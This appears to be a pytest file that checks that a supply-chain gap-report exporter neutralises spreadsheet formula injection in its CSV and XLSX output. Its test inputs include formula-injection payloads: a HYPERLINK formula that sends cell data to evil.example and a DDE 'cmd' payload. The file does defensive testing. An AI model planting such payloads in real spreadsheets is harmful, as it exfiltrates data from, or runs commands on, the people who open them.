"""Gap reports never carry a live formula: names an editor typed that begin with =, +, -, @ (or tab/CR) reach CSV
neutralised (OWASP CSV injection) and XLSX as string cells (issue 14, item 3). Files are read back to check."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from chainmap import report_formats
from chainmap.workbook import read_rows
from tests.conftest import reset_seeded

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "=1+1", "＝1+1"]


def row(name: str) -> dict:
    return {"city": "邢台市", "county": "清河县", "county_adcode": "130534", "cluster": "qinghe-cashmere",
            "cluster_name": name, "category": "时尚消费", "node": "qinghe-cashmere.x", "node_name": name,
            "stage": "midstream", "industry_codes": ["1721"], "status": "gap", "scope": "county", "local_entities": 0,
            "outside_province_share": -0.5, "single_supplier": name, "mark": None, "reasons": name,
            "cluster_node_coverage": 0.5}


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def formula_cells(body: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [cell.coordinate for sheet in book.worksheets for r in sheet.iter_rows() for cell in r
            if cell.data_type == "f"]


def test_csv_cells_are_neutralised():
    rows = read_csv(report_formats.to_csv([row(h) for h in HOSTILE]))
    for hostile, cells in zip(HOSTILE, rows[1:], strict=True):
        keys = [c.key for c in report_formats.COLUMNS]
        name_cells = [cells[keys.index(k)] for k in ("cluster_name", "node_name", "single_supplier", "reasons")]
        assert name_cells == ["'" + hostile] * 4
        share = keys.index("outside_province_share")
        assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for i, c in enumerate(cells) if i != share)
        assert cells[share] == "-0.5"  # a number stays a number


def test_xlsx_has_no_formula_cells_and_keeps_the_names():
    body = report_formats.to_xlsx([row(h) for h in HOSTILE], title="缺链报告", unit="测试", as_of=dt.date(2026, 12, 1))
    assert formula_cells(body) == []
    detail = read_rows(body, "缺链明细")
    # exactly as written, CR included (openpyxl writes through lxml, which escapes it; requirements.txt)
    assert [r["产业链环节"] for r in detail] == HOSTILE
    assert detail[0]["省外供给占比"] == -0.5


@pytest.fixture()
def hostile_nodes(client, graph, keys):
    names = ['=HYPERLINK("http://evil.example","x")', "+1+1", "-1+1", "@SUM(A1)"]
    for i, name in enumerate(names):
        response = client.post("/api/v1/clusters/qinghe-cashmere/nodes", headers=keys["admin"],
                               json={"key": f"formula-{i}", "name": name, "stage": "midstream",
                                     "industry_codes": ["1721"]})
        assert response.status_code == 201, response.get_json()
    yield names
    reset_seeded(graph)


def test_report_files_from_the_api(client, keys, hostile_nodes):
    response = client.get("/api/v1/reports/gaps?county=130534&format=csv", headers=keys["viewer"])
    assert response.status_code == 200, response.get_data(as_text=True)
    csv_body = response.data
    cells = [c for r in read_csv(csv_body)[1:] for c in r]
    for name in hostile_nodes:
        assert "'" + name in cells and name not in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    xlsx_body = client.get("/api/v1/reports/gaps?county=130534&format=xlsx", headers=keys["viewer"]).data
    assert formula_cells(xlsx_body) == []
    values = {c.value for r in openpyxl.load_workbook(io.BytesIO(xlsx_body))["缺链明细"].iter_rows() for c in r}
    assert set(hostile_nodes) <= values
